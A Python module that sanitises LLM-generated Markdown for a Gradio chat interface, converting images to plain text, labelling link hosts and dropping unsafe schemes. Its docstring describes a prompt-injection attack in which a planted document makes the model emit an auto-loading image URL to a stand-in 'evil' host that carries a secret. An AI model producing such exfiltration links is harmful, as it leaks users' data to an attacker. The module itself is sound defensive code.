"""Markdown from the model or from stored data, made safe to hand to gr.Chatbot / gr.Markdown.

An answer is Markdown the LLM wrote, and the LLM reads documents anyone with upload rights can plant: a poisoned
document only has to ask for `![x](http://evil/p.gif?d=<secret>)` and the browser fetches it without a click, on
every replay too. So, besides HTML escaping (no tag of the text reaches the DOM):

- every image (`![alt](url)`, `![alt][ref]`, any `![` left) becomes plain text 「[图片：alt（未加载：host）]」 —
  nothing is ever loaded from an answer;
- an inline link to an absolute URL stays a link but shows its host in clear next to its text
  (「text（↗ host）」), so a click is the user's informed choice; `javascript:` / `data:` / other schemes lose the
  link entirely;
- reference definitions (`[ref]: http://…`) lose their meaning (the bracket is escaped), so no hidden target.

The Content-Security-Policy (api/security_headers.py) is the second layer: img-src/connect-src 'self' only.
"""
from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

# ![alt](url "title") / [text](url "title"); url without spaces (one level of parentheses), optional <url>
_INLINE = re.compile(r"(!?)\[([^\[\]\n]{0,500})\]\(\s*<?((?:[^()\s<>]|\([^()\s<>]*\))*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)")
_REF_IMAGE = re.compile(r"!\[([^\[\]\n]{0,500})\]\s?\[([^\[\]\n]{0,200})\]")
_REF_DEF = re.compile(r"^(\s{0,3})\[([^\[\]\n]+)\]:", re.M)
_BANG = re.compile(r"!(?=\[)")
_KEPT = re.compile("\x00(\\d+)\x00")


def host_of(url: str) -> str:
    try:
        parts = urlsplit(url)
    except ValueError:
        return "无效地址"
    return parts.hostname or ("本站" if not parts.scheme else parts.scheme)


def _inline(m: re.Match, kept: list[str]) -> str:
    bang, label, url = m.group(1), m.group(2), m.group(3)
    host = host_of(url)
    if bang:
        return f"［图片：{label or '无说明'}（未加载：{host}）］"
    scheme = (urlsplit(url).scheme if url else "").lower()
    if scheme in ("http", "https"):
        kept.append(f"[{label}]({url})（↗ {host}）")
        return f"\x00{len(kept) - 1}\x00"  # set aside: the passes below must not touch the links we keep
    if not scheme and url.startswith("#"):  # an in-page anchor (our citation links are HTML, not this)
        kept.append(m.group(0))
        return f"\x00{len(kept) - 1}\x00"
    return f"{label}（链接已移除：{host}）"


def defuse_markdown(text: str) -> str:
    """Markdown (already HTML-escaped) with no image and no hidden link target left."""
    kept: list[str] = []
    text = _INLINE.sub(lambda m: _inline(m, kept), text.replace("\x00", ""))
    text = _REF_IMAGE.sub(lambda m: f"［图片：{m.group(1) or '无说明'}（未加载）］", text)
    text = _REF_DEF.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)
    text = _BANG.sub("!\\\\", text)  # any `![` left over (nested brackets …): a literal "![", not an image
    text = text.replace("](", "]\\(")  # nor a link whose target the text hides (nested brackets …)
    return _KEPT.sub(lambda m: kept[int(m.group(1))], text)


def safe_markdown(text: str | None) -> str:
    """HTML-escaped and defused: what every view passes to a Markdown component for text it did not write."""
    return defuse_markdown(html.escape(text or "", quote=False))
